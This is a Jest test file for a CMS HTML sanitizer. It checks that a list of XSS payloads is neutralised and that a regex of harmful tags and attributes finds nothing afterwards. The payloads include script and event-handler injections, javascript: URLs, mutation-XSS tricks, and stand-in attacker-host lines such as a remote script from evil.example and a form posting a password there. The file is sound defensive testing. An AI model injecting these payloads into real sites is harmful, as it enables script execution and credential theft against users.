import { expect, test } from '@jest/globals';
import { cleanHtml } from './cms-html.rules.js';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1)>text</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="javascript:alert(1)">',
  '<img src="//evil.example/x.png">',
  '<img srcset="javascript:alert(1) 1x">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><script>alert(1)</script></xmp>',
  '<xmp>&lt;img src=x onerror=alert(1)&gt;</xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<template><script>alert(1)</script></template>',
  '<plaintext><script>alert(1)</script>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="position:fixed;inset:0;width:expression(alert(1))">x</div>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<p id="login-form" name="token" class="modal">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<a href="https://ok.example" target="_blank" ping="https://evil.example" rel="opener">x</a>',
  '"><img src=x onerror=alert(1)//',
];

const HARMFUL = /<\s*\/?\s*(script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|video|audio|template|xmp|textarea|title|noscript|details|marquee|body|animate)\b|<[^>]*\s(on\w+|style|class|id|name|srcset|srcdoc|ping|formaction|xlink:href)\s*=|<[^>]*\shref\s*=\s*"(?!https?:|mailto:|#|\/(?!\/))|<[^>]*\ssrc\s*=\s*"(?!https?:)|<!|<\?/i; // prettier-ignore

test.each(ATTACKS)('nothing of %j can run', (html) => {
  const clean = cleanHtml(html);
  expect(clean).not.toMatch(HARMFUL);
  expect(cleanHtml(clean)).toBe(clean);
});

test('formatting stays', () => {
  const html = [
    '<h2>Rules</h2><p>Be <strong>fair</strong>, <em>fast</em> and <code>online</code>.</p>',
    '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote>Quote</blockquote><pre>a  b</pre>',
    '<table><thead><tr><th scope="col">Car</th></tr></thead><tbody><tr><td colspan="2">GT</td></tr></tbody></table>',
    '<figure><img src="https://example.com/a.png" alt="A" width="40" /><figcaption>A</figcaption></figure>',
  ].join('');
  expect(cleanHtml(html)).toBe(html);
});

test('uploaded pictures stay, other addresses of this site are no pictures', () => {
  const picture = `<img src="/api/pictures/${'0a'.repeat(32)}.webp" alt="Start" />`;
  expect(cleanHtml(picture)).toBe(picture);
  expect(cleanHtml('<p>A<img src="/api/auth/me"><img src="/api/pictures/../auth/me"></p>')).toBe('<p>A</p>');
});

test('links cannot reach the window they came from', () => {
  expect(cleanHtml('<a href="https://example.com/" target="_blank">x</a>')).toBe(
    '<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>',
  );
  expect(cleanHtml('<a href="mailto:a@example.com">x</a><a href="/news/a#b">y</a>')).toBe(
    '<a href="mailto:a@example.com" rel="noopener noreferrer">x</a><a href="/news/a#b" rel="noopener noreferrer">y</a>',
  );
});

test('text stays text', () => {
  expect(cleanHtml('1 &lt; 2 &amp; 3 > 2')).toBe('1 &lt; 2 &amp; 3 &gt; 2');
});
